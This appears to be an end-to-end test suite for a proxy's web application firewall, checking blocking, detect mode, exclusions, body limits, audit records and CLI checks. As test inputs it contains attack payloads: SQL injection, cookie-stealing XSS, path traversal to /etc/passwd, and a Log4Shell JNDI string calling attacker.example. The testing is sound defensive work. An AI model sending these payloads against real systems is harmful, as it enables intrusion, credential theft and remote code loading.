/**
 * The WAF in a real `mesh proxy`: an ingress listener with the bundled rules
 * in blocking mode, driven by curl. Attacks in the query, a form body, a
 * JSON body and a header are refused with 403 and the request id before the
 * app sees them; ordinary requests pass; detect mode and exclusions apply
 * per path; the body limit refuses; every block and detection is audited
 * with its rule ids. Also `mesh config validate` on a broken rule file and
 * `mesh waf check`.
 */
import test from "ava";
import Database from "better-sqlite3";
import { existsSync, mkdirSync, readFileSync, writeFileSync } from "node:fs";
import { join } from "node:path";
import { curlHttp, errorCode, headerOf, ProxyEnv, waitFor, type App, type CurlResult, type RunningProxy } from "../helpers/proxy-env.js";
import { MESH_BIN, runAsync } from "../helpers/env.js";

let env: ProxyEnv;
let app: App;
let proxy: RunningProxy;
let base: string;
let auditDb: string;
let accessLog: string;

test.before(async () => {
  env = ProxyEnv.create("mesh-waf-e2e-");
  app = await env.startApp();
  await env.workload("edge");
  env.publish("edge");
  auditDb = join(env.dir, "audit.db");
  accessLog = join(env.dir, "access.log");
  const waf = {
    mode: "block",
    paranoia: 1,
    limits: { body_bytes: 8192 },
    overrides: [{ path_prefix: "/observe/", mode: "detect" }],
    exclusions: [{ path_prefix: "/search/", remove_tags: ["attack-sqli"] }],
  };
  proxy = await env.startProxy(
    env.proxyConfig(
      "edge",
      [{ name: "ingress", kind: "ingress", filters: [{ waf }], routes: [{ name: "all", match: { path: { prefix: "/" } }, cluster: "app" }] }],
      [{ name: "app", endpoints: [app.address] }],
      { audit_db: auditDb, access_log: accessLog },
    ),
  );
  base = `http://${proxy.hosts.ingress}:${proxy.ports.ingress}`;
});

test.after.always(async () => {
  await env?.close();
});

async function post(path: string, type: string, body: string, headers: string[] = []): Promise<CurlResult> {
  const args = ["-sS", "--max-time", "10", "-D", "-", "-w", "\n%{http_code}", "-H", `content-type: ${type}`, "--data-binary", "@-"];
  for (const h of headers) args.push("-H", h);
  const r = await runAsync("curl", [...args, `${base}${path}`], body);
  const cut = r.stdout.lastIndexOf("\n");
  const rest = r.stdout.slice(0, cut);
  const sep = rest.lastIndexOf("\r\n\r\n");
  return { status: Number(r.stdout.slice(cut + 1)) || 0, headers: rest.slice(0, sep), body: rest.slice(sep + 4), exit: r.status, stderr: r.stderr };
}

const hitsOf = (marker: string): number => app.hits.filter((h) => h.url.includes(marker)).length;

function blocked(t: import("ava").ExecutionContext, r: CurlResult, what: string): void {
  t.is(r.status, 403, `${what}: ${r.status} ${r.body}`);
  t.is(errorCode(r.body), "waf_blocked", what);
  const id = headerOf(r.headers, "x-request-id");
  t.truthy(id, what);
  t.true(r.body.includes(id!), `${what}: the message quotes the request id`);
}

test("ordinary requests pass to the app", async (t) => {
  t.is((await curlHttp(`${base}/shop/items?q=blue+shoes&page=2&sort=price&marker=ok1`)).status, 200);
  t.is((await post("/shop/cart?marker=ok2", "application/x-www-form-urlencoded", "item=42&qty=1&note=it%27s+a+gift+for+O%27Brien")).status, 200);
  t.is((await post("/shop/api?marker=ok3", "application/json", JSON.stringify({ user: { name: "Ann", tags: ["a", "b"] }, comment: "Select a size or colour" }))).status, 200);
  t.is(hitsOf("marker=ok"), 3);
  // the WAF reads bodies, but a GET that sent none reaches the app as sent: no body, no Content-Length: 0 made up
  const get = app.hits.find((h) => h.url.includes("marker=ok1"))!;
  t.is(get.headers["content-length"], undefined);
  t.is(get.headers["transfer-encoding"], undefined);
  const form = app.hits.find((h) => h.url.includes("marker=ok2"))!;
  t.is(form.headers["content-length"], String("item=42&qty=1&note=it%27s+a+gift+for+O%27Brien".length));
});

test("the access log has a line per request: status, bytes sent, and the filter that refused it", async (t) => {
  const ok = await curlHttp(`${base}/shop/items?marker=log1`);
  const bad = await curlHttp(`${base}/shop/items?marker=log2&id=1%27%20OR%20%271%27%3D%271`);
  t.is(ok.status, 200);
  t.is(bad.status, 403);
  // the app saw the id of the request it answered; a refusal carries its own
  const ids = [String(app.hits.find((h) => h.url.includes("marker=log1"))?.headers["x-request-id"]), headerOf(bad.headers, "x-request-id")!];
  type Line = { path: string; status: number; bytes_sent: number; denied_by?: string; request_id: string; cluster?: string };
  const [passed, refused] = await waitFor(
    () => {
      const all = existsSync(accessLog) ? readFileSync(accessLog, "utf8").trim().split("\n").filter((x) => x !== "").map((x) => JSON.parse(x) as Line) : [];
      const mine = ids.map((id) => all.find((x) => x.request_id === id));
      return mine[0] !== undefined && mine[1] !== undefined ? [mine[0], mine[1]] : undefined;
    },
    5000,
    "access log lines",
  );
  t.is(passed.status, 200);
  t.is(passed.path, "/shop/items");
  t.is(passed.cluster, "app");
  // the whole response: status line, headers and body
  t.true(passed.bytes_sent > ok.body.length, JSON.stringify(passed));
  t.is(refused.status, 403);
  t.is(refused.denied_by, "waf");
  t.true(refused.bytes_sent > bad.body.length, JSON.stringify(refused));
});

test("attacks in the query, a form body, a JSON body and a header are blocked before the app", async (t) => {
  blocked(t, await curlHttp(`${base}/shop/items?marker=bad1&id=1%27%20OR%20%271%27%3D%271`), "SQLi in the query");
  blocked(t, await post("/shop/cart?marker=bad2", "application/x-www-form-urlencoded", "comment=%3Cscript%3Ealert(document.cookie)%3C%2Fscript%3E"), "XSS in a form");
  blocked(t, await post("/shop/api?marker=bad3", "application/json", JSON.stringify({ file: "../../../../etc/passwd" })), "traversal in JSON");
  blocked(t, await curlHttp(`${base}/shop/?marker=bad4`, ["User-Agent: ${jndi:ldap://attacker.example/a}"]), "Log4Shell in a header");
  t.is(hitsOf("marker=bad"), 0);
});

test("detect mode lets the attack through and audits it; an exclusion drops a rule class on its path only", async (t) => {
  t.is((await curlHttp(`${base}/observe/x?marker=det1&id=1%27%20OR%20%271%27%3D%271`)).status, 200);
  t.is(hitsOf("marker=det1"), 1);
  t.is((await curlHttp(`${base}/search/x?marker=exc1&id=1%27%20OR%20%271%27%3D%271`)).status, 200);
  blocked(t, await curlHttp(`${base}/other/x?marker=exc2&id=1%27%20OR%20%271%27%3D%271`), "same attack off the excluded path");
  const events = await waitFor(() => {
    const db = new Database(auditDb, { readonly: true });
    try {
      const rows = db.prepare("SELECT action, outcome, subject, details FROM events WHERE action LIKE 'waf.%'").all() as { action: string; outcome: string; subject: string; details: string }[];
      return rows.some((r) => r.subject.includes("/observe/")) && rows.some((r) => r.subject.includes("/other/")) ? rows : undefined;
    } finally {
      db.close();
    }
  }, 5000, "waf audit events");
  const det = events.find((e) => e.subject.includes("/observe/"))!;
  t.is(det.action, "waf.detect");
  t.is(det.outcome, "success");
  const dd = JSON.parse(det.details) as { verdict: string; rule_ids: number[]; matches: { target: string }[]; request_id: string };
  t.is(dd.verdict, "detect");
  t.true(dd.rule_ids.length > 0);
  t.true(dd.matches.some((m) => m.target === "args:id"));
  t.truthy(dd.request_id);
  const blk = events.find((e) => e.subject.includes("/other/"))!;
  t.is(blk.action, "waf.block");
  t.is(blk.outcome, "deny");
});

test("a body beyond the inspection limit is refused with 413", async (t) => {
  const r = await post("/shop/cart?marker=big", "application/x-www-form-urlencoded", `a=${"x".repeat(10_000)}`);
  t.is(r.status, 413, r.body);
  t.is(errorCode(r.body), "waf_limit_exceeded");
  t.is(hitsOf("marker=big"), 0);
});

test("mesh config validate names the rule file and line of a broken rule; mesh waf check prints a verdict", async (t) => {
  const rules = join(env.dir, "bad-rules");
  mkdirSync(rules);
  writeFileSync(join(rules, "10-x.yaml"), "rules:\n  - id: 1\n    msg: bad\n    targets: [args]\n    rx: '(a)\\1'\n");
  const cfg = env.writeYaml(
    "bad-waf.yaml",
    env.proxyConfig("bad", [{ name: "ingress", kind: "ingress", filters: [{ waf: { rules: "./bad-rules" } }], routes: [{ name: "all", match: { path: { prefix: "/" } }, cluster: "app" }] }], [{ name: "app", endpoints: ["127.0.0.1:9"] }]),
  );
  const v = await runAsync(process.execPath, [MESH_BIN, "config", "validate", cfg]);
  t.is(v.status, 1, v.stderr);
  t.regex(v.stderr, /10-x\.yaml:5: rule 1: regular expression cannot be run in linear time/);

  const attack = "GET /?q=%3Cscript%3Ealert(1)%3C/script%3E HTTP/1.1\r\nHost: x\r\nUser-Agent: t\r\n\r\n";
  const a = await runAsync(process.execPath, [MESH_BIN, "waf", "check", "--paranoia", "1"], attack);
  t.is(a.status, 0, a.stderr);
  const out = JSON.parse(a.stdout) as { verdict: string; score: number; matches: { target: string }[] };
  t.is(out.verdict, "block");
  t.true(out.score >= 5);
  t.true(out.matches.some((m) => m.target === "args:q"));
  const ok = await runAsync(process.execPath, [MESH_BIN, "waf", "check"], "GET /?q=shoes HTTP/1.1\nHost: x\nUser-Agent: t\nAccept: */*\n\n");
  t.is((JSON.parse(ok.stdout) as { verdict: string }).verdict, "pass", ok.stdout);
  const bad = await runAsync(process.execPath, [MESH_BIN, "waf", "check"], "not http at all");
  t.is(bad.status, 1);
  t.regex(bad.stderr, /^[a-z_]+: /);
  t.is((await runAsync(process.execPath, [MESH_BIN, "waf", "check", "--paranoia", "7"], "")).status, 2);

  // the listing shows each rule's prefilter literals (null: runs on every value)
  const list = await runAsync(process.execPath, [MESH_BIN, "waf", "rules", "--json"]);
  t.is(list.status, 0, list.stderr);
  const rows = JSON.parse(list.stdout) as { id: number; literals: string[] | null }[];
  t.true(rows.length > 200);
  t.true(rows.find((r) => r.id === 141122)?.literals?.includes(":") ?? false, JSON.stringify(rows.find((r) => r.id === 141122)));
  t.true(rows.some((r) => r.literals === null));
});
